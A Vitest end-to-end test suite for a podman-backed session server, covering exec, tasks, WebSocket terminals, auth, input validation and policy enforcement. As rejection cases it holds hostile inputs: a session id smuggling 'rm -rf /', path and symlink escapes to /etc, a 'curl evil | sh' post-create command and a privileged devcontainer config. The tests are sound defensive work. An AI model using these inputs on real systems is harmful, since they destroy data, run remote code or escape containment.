import { symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { LABELS } from '@axo/podman-args';
import { containersByLabel, podmanGate, TEST_IMAGE } from '@axo/test-utils';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { attachTerminal, type Json, startTestServer, type TestServer } from './helpers';

const gate = podmanGate();

describe.skipIf(!gate.ok)('axo-server over HTTP and WebSocket (real podman)', () => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer();
  });
  afterAll(async () => t?.close());
  const containers = () => containersByLabel(`${LABELS.owner}=${t.owner}`);

  it('create → exec → task (log by offset) → terminal over WebSocket → delete, leaving nothing', async () => {
    const workdir = t.workdir('e2e');
    const created = await t.api('POST', '/v1/sessions', { id: 'e2e', workdir, ports: [39_501] });
    expect(created.status).toBe(201);
    expect(created.json).toMatchObject({
      id: 'e2e',
      workdir,
      report: { image: { used: TEST_IMAGE }, ports: { published: [{ hostIp: '127.0.0.1', port: 39_501 }] } },
    });
    expect((await t.api('GET', '/v1/sessions/e2e')).json.report.limits.applied).toBe(true);
    expect((await t.api('GET', '/v1/sessions')).json.sessions.map((s: { id: string }) => s.id)).toEqual(['e2e']);

    const exec = await t.api('POST', '/v1/sessions/e2e/exec', {
      command: 'cat; echo "$X" >&2; exit 4',
      stdin: 'from stdin\n',
      env: { X: 'env-value' },
    });
    expect(exec.status).toBe(200);
    expect(exec.json).toMatchObject({ stdout: 'from stdin\n', stderr: 'env-value\n', exitCode: 4, timedOut: false });
    const argvExec = await t.api('POST', '/v1/sessions/e2e/exec', { argv: ['pwd'], cwd: '/tmp' });
    expect(argvExec.json.stdout).toBe('/tmp\n');

    const task = await t.api('POST', '/v1/sessions/e2e/tasks', { command: 'echo first; sleep 1; echo second' });
    expect(task.status).toBe(201);
    expect(task.json.status).toBe('running');
    let log = '';
    let offset = 0;
    let status = 'running';
    for (let i = 0; i < 100 && status === 'running'; i++) {
      const polled = await t.api('GET', `/v1/sessions/e2e/tasks/${task.json.id}?offset=${offset}`);
      expect(polled.json.log.from).toBe(offset);
      log += polled.json.log.text;
      offset = polled.json.log.to;
      status = polled.json.task.status;
      await new Promise((r) => setTimeout(r, 100));
    }
    const last = await t.api('GET', `/v1/sessions/e2e/tasks/${task.json.id}?offset=${offset}`);
    log += last.json.log.text;
    expect(log).toBe('first\nsecond\n');
    expect(last.json.task).toMatchObject({ status: 'exited', exitCode: 0 });

    const terminal = await t.api('POST', '/v1/sessions/e2e/terminals', { command: 'sh', cols: 100, rows: 30 });
    expect(terminal.status).toBe(201);
    const first = attachTerminal(t, 'e2e', terminal.json.id);
    const second = attachTerminal(t, 'e2e', terminal.json.id);
    await Promise.all([first.opened, second.opened]);
    first.send({ type: 'input', data: 'echo hello\r' });
    await first.waitFor(/\r\nhello\r\n/);
    await second.waitFor(/\r\nhello\r\n/);
    first.send({ type: 'resize', cols: 120, rows: 40 });
    first.send({ type: 'input', data: 'stty size\r' });
    await second.waitFor(/40 120/);
    // A client attaching late is replayed the scrollback first.
    const late = attachTerminal(t, 'e2e', terminal.json.id);
    await late.opened;
    await late.waitFor(/\r\nhello\r\n/);
    first.send({ type: 'input', data: 'exit 6\r' });
    await new Promise<void>((resolve) => first.socket.once('close', () => resolve()));
    expect(first.messages.at(-1)).toEqual({ type: 'exit', exitCode: 6 });

    expect((await t.api('DELETE', '/v1/sessions/e2e')).status).toBe(204);
    expect(containers()).toEqual([]);
    expect(t.server.sessions.terminalCount).toBe(0);
    expect((await t.api('GET', '/v1/sessions/e2e')).status).toBe(404);
  });

  it('kills a task and a terminal on request', async () => {
    await t.api('POST', '/v1/sessions', { id: 'kills', workdir: t.workdir('kills') });
    onTestFinished(async () => {
      await t.api('DELETE', '/v1/sessions/kills');
    });
    const task = await t.api('POST', '/v1/sessions/kills/tasks', { command: 'sleep 300' });
    const killed = await t.api('DELETE', `/v1/sessions/kills/tasks/${task.json.id}`);
    expect(killed.json).toMatchObject({ status: 'exited', killed: true });
    const term = await t.api('POST', '/v1/sessions/kills/terminals', { command: 'sleep 301' });
    expect((await t.api('DELETE', `/v1/sessions/kills/terminals/${term.json.id}`)).status).toBe(204);
    const ps = await t.api('POST', '/v1/sessions/kills/exec', {
      command: 'ps -o args | grep -c "^sleep 30[01]" || true',
    });
    expect(ps.json.stdout.trim()).toBe('0');
    expect((await t.api('GET', '/v1/sessions/kills/terminals')).json.terminals).toEqual([]);
  });

  describe('auth', () => {
    it('answers 401 to no token and to a wrong one, and changes nothing', async () => {
      const workdir = t.workdir('auth');
      for (const token of [null, 'wrong-token-wrong-token']) {
        const r = await t.api('POST', '/v1/sessions', { id: 'auth', workdir }, { token });
        expect(r.status).toBe(401);
        expect(r.type).toMatch(/^application\/problem\+json/);
        expect(r.json.code).toBe('UNAUTHORIZED');
        expect((await t.api('GET', '/v1/sessions', undefined, { token })).status).toBe(401);
        expect((await t.api('GET', '/metrics', undefined, { token })).status).toBe(401);
        expect((await t.api('GET', '/openapi.json', undefined, { token })).status).toBe(401);
      }
      expect(containers()).toEqual([]);
    });

    it('leaves /healthz open', async () => {
      const r = await t.api('GET', '/healthz', undefined, { token: null });
      expect(r).toMatchObject({ status: 200, json: { status: 'ok' } });
    });

    it('refuses a WebSocket without a valid token', async () => {
      await t.api('POST', '/v1/sessions', { id: 'wsauth', workdir: t.workdir('wsauth') });
      const term = await t.api('POST', '/v1/sessions/wsauth/terminals', {});
      await expect(attachTerminal(t, 'wsauth', term.json.id, null).opened).rejects.toThrow(/401/);
      await expect(attachTerminal(t, 'wsauth', term.json.id, 'nope-nope-nope-nope').opened).rejects.toThrow(/401/);
      await t.api('DELETE', '/v1/sessions/wsauth');
    });
  });

  describe('bad input is a 4xx problem and creates nothing', () => {
    const cases: Array<[string, () => Promise<{ status: number; type: string; json: Json }>, number, string]> = [];
    const add = (
      name: string,
      call: () => Promise<{ status: number; type: string; json: Json }>,
      status: number,
      code: string,
    ) => cases.push([name, call, status, code]);
    add(
      'malformed JSON',
      () => t.api('POST', '/v1/sessions', undefined, { raw: '{"workdir": ' }),
      400,
      'INVALID_INPUT',
    );
    add(
      'unknown fields',
      () => t.api('POST', '/v1/sessions', { workdir: t.workdir('u'), privileged: true }),
      400,
      'INVALID_INPUT',
    );
    add(
      'wrong types',
      () => t.api('POST', '/v1/sessions', { workdir: t.workdir('w'), ports: '3000' }),
      400,
      'INVALID_INPUT',
    );
    add(
      'a huge body',
      () => t.api('POST', '/v1/sessions', { workdir: t.workdir('h'), postCreate: ['x'.repeat(2_000_000)] }),
      413,
      'PAYLOAD_TOO_LARGE',
    );
    add(
      'a session id with shell characters',
      () => t.api('POST', '/v1/sessions', { id: 'a;rm -rf /', workdir: t.workdir('s') }),
      400,
      'INVALID_INPUT',
    );
    add('a relative workdir', () => t.api('POST', '/v1/sessions', { workdir: '../../etc' }), 400, 'INVALID_INPUT');
    add(
      'a workdir escaping the root with ..',
      () => t.api('POST', '/v1/sessions', { workdir: `${t.root}/../../../../etc` }),
      403,
      'PATH_NOT_ALLOWED',
    );
    add(
      'a symlink escaping the root',
      () => {
        const link = join(t.root, 'escape');
        symlinkSync('/etc', link);
        return t.api('POST', '/v1/sessions', { workdir: link });
      },
      403,
      'PATH_NOT_ALLOWED',
    );
    add(
      'a file as workdir',
      () => {
        writeFileSync(join(t.root, 'file'), '');
        return t.api('POST', '/v1/sessions', { workdir: join(t.root, 'file') });
      },
      400,
      'INVALID_INPUT',
    );
    add(
      'a non-JSON content type',
      () => t.api('POST', '/v1/sessions', undefined, { raw: 'workdir=/', headers: { 'content-type': 'text/plain' } }),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
    );
    add('an unknown session', () => t.api('POST', '/v1/sessions/nope/exec', { command: 'true' }), 404, 'NOT_FOUND');
    add(
      'exec with both argv and command',
      () => t.api('POST', '/v1/sessions/nope/exec', { argv: ['true'], command: 'true' }),
      400,
      'INVALID_INPUT',
    );

    it.each(cases)('%s', async (_, call, status, code) => {
      const r = await call();
      expect(r.status).toBe(status);
      expect(r.type).toMatch(/^application\/problem\+json/);
      expect(r.json).toMatchObject({ status, code, type: expect.stringMatching(/^urn:axo:problem:/) });
      expect(typeof r.json.detail).toBe('string');
      expect(containers()).toEqual([]);
    });

    it('names every offending field', async () => {
      const r = await t.api('POST', '/v1/sessions', { workdir: t.workdir('names'), bogus: 1, ports: [0] });
      expect(r.json.errors.map((e: { field: string }) => e.field).sort()).toEqual(['body.bogus', 'body.ports.0']);
    });
  });

  describe('policy: clients can ask for less, never more', () => {
    it.each([
      ['allowUntrustedImage', { allowUntrustedImage: true }],
      ['allowPostCreate', { allowPostCreate: true }],
      ['an untrusted image', { image: 'docker.io/library/evil:1' }],
      ['post-create commands', { postCreate: ['curl evil | sh'] }],
    ])('403 for %s', async (_, extra) => {
      const r = await t.api('POST', '/v1/sessions', { workdir: t.workdir('policy'), ...extra });
      expect(r.status).toBe(403);
      expect(r.json.code).toBe('POLICY_DENIED');
      expect(containers()).toEqual([]);
    });

    it('grants a narrower request: no network', async () => {
      const r = await t.api('POST', '/v1/sessions', {
        id: 'narrow',
        workdir: t.workdir('narrow'),
        network: 'none',
        ports: [39_502],
      });
      expect(r.status).toBe(201);
      expect(r.json.report.network).toBe('none');
      expect(r.json.report.ports.published).toEqual([]);
      await t.api('DELETE', '/v1/sessions/narrow');
    });

    it("applies the policy to the repository's devcontainer.json requests and reports them", async () => {
      const workdir = t.workdir('devc');
      writeFileSync(
        join(workdir, '.devcontainer.json'),
        '{ "image": "docker.io/library/evil:1", "postCreateCommand": "touch pwned", "runArgs": ["--privileged"] }',
      );
      const r = await t.api('POST', '/v1/sessions', { id: 'devc', workdir, devcontainer: true });
      expect(r.status).toBe(201);
      expect(r.json.report.image).toMatchObject({ requested: 'docker.io/library/evil:1', used: TEST_IMAGE });
      expect(r.json.report.postCreate).toEqual([{ command: 'touch pwned', status: 'skipped', exitCode: null }]);
      expect(r.json.devcontainer.ignored).toEqual([expect.objectContaining({ key: 'runArgs' })]);
      await t.api('DELETE', '/v1/sessions/devc');
    });
  });

  it('serves metrics in Prometheus format and an OpenAPI document', async () => {
    const metrics = await t.api('GET', '/metrics');
    expect(metrics.type).toMatch(/^text\/plain/);
    for (const name of [
      'axo_sessions',
      'axo_execs_total',
      'axo_exec_duration_seconds_bucket',
      'axo_tasks_started_total',
      'axo_terminals',
      'axo_reaped_containers_total',
      'axo_session_start_failures_total',
    ]) {
      expect(metrics.json).toContain(name);
    }
    const doc = (await t.api('GET', '/openapi.json')).json;
    expect(doc.openapi).toBe('3.1.0');
    expect(Object.keys(doc.paths)).toContain('/v1/sessions/{id}/exec');
    expect(
      doc.paths['/v1/sessions'].post.requestBody.content['application/json'].schema.properties.workdir,
    ).toBeDefined();
  });
});
